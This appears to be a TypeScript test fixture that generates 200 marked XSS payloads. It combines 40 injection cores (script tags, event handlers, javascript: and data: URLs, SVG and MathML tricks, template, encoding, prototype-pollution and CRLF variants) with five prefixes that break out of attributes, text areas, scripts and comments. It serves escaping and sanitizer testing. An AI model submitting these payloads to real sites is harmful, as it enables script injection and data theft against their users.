/**
 * Harmful if read as anything but text: each sets `pwned`, requests another host or hides the page.
 */
const CORES: readonly string[] = [
  '<script>pwned=1</script>',
  '<script src=//example.invalid/x.js></script>',
  '<img src=x onerror=pwned=1>',
  '<img src=//example.invalid/x.png>',
  '<svg/onload=pwned=1>',
  '<svg><script>pwned=1</script></svg>',
  '<svg><animate onbegin=pwned=1 attributeName=x dur=1s>',
  '<svg><foreignObject><body onload=pwned=1></foreignObject></svg>',
  '<math><mi xlink:href="javascript:pwned=1">x</mi></math>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<iframe src=javascript:parent.pwned=1></iframe>',
  '<object data=javascript:pwned=1></object>',
  '<embed src=//example.invalid/x.swf>',
  '<video><source onerror=pwned=1></video>',
  '<audio src=x onerror=pwned=1>',
  '<body onload=pwned=1>',
  '<details open ontoggle=pwned=1>x</details>',
  '<input autofocus onfocus=pwned=1>',
  '<select autofocus onfocus=pwned=1></select>',
  '<marquee onstart=pwned=1>x</marquee>',
  '<form action=javascript:pwned=1><button>x</button></form>',
  '<button formaction=javascript:pwned=1>x</button>',
  '<a href="javascript:pwned=1">x</a>',
  '<a href="data:text/html,<script>pwned=1</script>">x</a>',
  '<base href=//example.invalid/>',
  '<link rel=stylesheet href=//example.invalid/x.css>',
  '<meta http-equiv=refresh content="0;url=//example.invalid">',
  '<style>*{display:none}</style>',
  '<style>@import "//example.invalid/x.css"</style>',
  '<div style="background:url(//example.invalid/x.png)">x</div>',
  '<template><img src=x onerror=pwned=1></template>',
  '<noscript><img src=x onerror=pwned=1></noscript>',
  '[x](javascript:pwned=1) ![x](//example.invalid/x.png)',
  "{{constructor.constructor('pwned=1')()}} ${pwned=1} <%= pwned=1 %>",
  '&lt;script&gt;pwned=1&lt;/script&gt; &#60;img src=x onerror=pwned=1&#62;',
  '%3Cscript%3Epwned=1%3C/script%3E \\u003cscript\\u003epwned=1\\u003c/script\\u003e',
  '\u202e\u2066<script>pwned=1</script>\u200b\ufeff',
  '\uff1cscript\uff1epwned=1\uff1c/script\uff1e +ADw-script+AD4-pwned=1+ADw-/script+AD4-',
  '"},"__proto__":{"pwned":1},"x":{"constructor":{"prototype":{"pwned":1}}}',
  'javascript:pwned=1 //\u2028pwned=1\r\nSet-Cookie: pwned=1\u001b[2J',
]

/** Prefixes that break out of an attribute, a text area, a script or a comment. */
const WAYS_OUT: readonly ((core: string) => string)[] = [
  core => core,
  core => `">${core}`,
  core => `'/>${core}`,
  core => `</textarea></title></style>${core}`,
  core => `--></script>${core}<!--`,
]

export interface Payload {
  /** Identifies the payload wherever it is shown. */
  readonly mark: string
  readonly text: string
}

/** 200 payloads with different marks. */
export const PAYLOADS: readonly Payload[] = WAYS_OUT.flatMap((wayOut, way) =>
  CORES.map((core, i) => {
    const mark = `n${String(way * CORES.length + i).padStart(3, '0')}:`
    return { mark, text: `${mark}${wayOut(core)}` }
  }),
)
